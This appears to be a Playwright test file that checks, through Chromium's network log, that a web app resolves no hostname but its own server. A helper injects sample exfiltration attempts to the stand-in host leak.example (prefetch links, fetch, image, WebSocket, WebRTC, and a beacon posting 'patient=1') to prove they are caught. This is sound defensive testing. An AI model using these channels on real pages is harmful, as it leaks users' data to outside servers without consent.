import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Page, test as plain } from '@playwright/test';
import { JourneyPage } from './journey-page.ts';
import { expect, test } from './served-page.ts';

/**
 * A look-up of a server's name, and a connection that nothing is asked over yet, are no requests: neither the page's
 * events nor a server that counts see them. The browser's own log of its network does.
 */
test('the whole journey has no name looked up but that of its own server', async ({ served }) => {
  const asked = await namesAskedFor(async (page) => {
    const centre = new JourneyPage(page);
    await centre.simulatedBundle(served, 'Oxford', 5, 'recommended');
    await centre.goTo('Analyse');
    await centre.analyse();
    for (const side of ['Tour', 'Study', 'Ledger', 'About this page']) await centre.goTo(side);
  });
  expect(asked).toEqual([OWN]);
});

test('code inside the page has no name looked up', async ({ served }) => {
  const asked = await namesAskedFor(async (page) => {
    await new JourneyPage(page).open(served);
    await leak(page);
  });
  expect(asked).toEqual([OWN]);
});

plain('the log shows each of these ways from a page without a seal', async () => {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>open</title><body>');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  const asked = await namesAskedFor(async (page) => {
    await page.goto(`http://${OWN}:${port}/`);
    await leak(page);
  });
  server.close();
  // A computer without any network has no WebRTC either.
  const ways = WAYS.filter((way) => way !== 'webrtc');
  expect(asked).toEqual(expect.arrayContaining([OWN, ...ways.map((way) => `${way}.leak.example`)]));
});

const OWN = '127.0.0.1';

/** Links that a browser follows ahead of any use, and the other ways to a server of which scripts know. */
const LINKS = ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload'] as const;
const WAYS = [...LINKS, 'attribute', 'fetch', 'image', 'beacon', 'socket', 'webrtc'] as const;

async function leak(page: Page): Promise<void> {
  await page.evaluate((links) => {
    const to = (way: string) => `https://${way}.leak.example/`;
    for (const rel of links) {
      const link = Object.assign(document.createElement('link'), { rel, as: 'script', href: to(rel) });
      document.head.append(link);
    }
    const written = document.createElement('link');
    written.setAttribute('rel', 'dns-prefetch');
    written.setAttribute('href', to('attribute'));
    document.head.append(written);
    fetch(to('fetch')).catch(() => undefined);
    new Image().src = to('image');
    navigator.sendBeacon(to('beacon'), 'patient=1');
    const kept: unknown[] = [];
    Object.assign(window, { kept });
    try {
      kept.push(new WebSocket(to('socket').replace('https', 'wss')));
    } catch {
      // Refused at once.
    }
    if (typeof RTCPeerConnection === 'undefined') return;
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:webrtc.leak.example:3478' }] });
    kept.push(peer, peer.createDataChannel('leak'));
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }, LINKS);
  // The browser takes its time with what it does ahead.
  await page.waitForTimeout(4000);
}

/** The hosts that the browser was asked to resolve while this was done with a page, sorted; its own look-ups left out. */
async function namesAskedFor(does: (page: Page) => Promise<void>): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'names-'));
  const log = join(folder, 'network.json');
  // A profile as a person has one, with the anticipation that the test runner would switch off: in a private window
  // the browser does nothing ahead.
  const context = await chromium.launchPersistentContext(join(folder, 'profile'), {
    executablePath: process.env.TWINPOOL_CHROMIUM ?? '/usr/bin/chromium',
    acceptDownloads: true,
    ignoreDefaultArgs: ['--disable-background-networking'],
    args: [
      '--headless=new',
      '--no-sandbox',
      '--disable-component-update',
      '--disable-sync',
      `--log-net-log=${log}`,
    ],
  });
  try {
    await does(context.pages()[0] ?? (await context.newPage()));
  } finally {
    await context.close();
  }
  const { constants, events } = JSON.parse(readFileSync(log, 'utf8')) as NetworkLog;
  rmSync(folder, { recursive: true, force: true });
  const kinds = Object.entries(constants.logEventTypes).filter(([name]) => ASKING.test(name));
  expect(kinds.length).toBeGreaterThan(5);
  const asking = new Set(kinds.map(([, type]) => type));
  const hosts = events.flatMap(({ type, params }) => (asking.has(type) ? hostsIn(params ?? {}) : []));
  return [...new Set(hosts.filter((host) => !OF_BROWSER.test(host)))].sort();
}

const ASKING = /^(HOST_RESOLVER_|DNS_TRANSACTION)/;

/** The browser looks for a newer one of itself, and whether somebody is signed in to it. */
const OF_BROWSER = /(^|\.)(google|googleapis|gstatic|gvt1|microsoft|msn|skype|bing)\.com$/;

interface NetworkLog {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
  readonly events: readonly { readonly type: number; readonly params?: Readonly<Record<string, unknown>> }[];
}

/** A server's name with a scheme and a port before and behind it, or alone as the resolver spells it. */
function hostsIn({ host, hostname }: Readonly<Record<string, unknown>>): string[] {
  return [host, hostname]
    .filter((name) => typeof name === 'string')
    .map((name) =>
      name
        .replace(/^\w+:\/\//, '')
        .replace(/:\d+$/, '')
        .replace(/\.$/, ''),
    );
}
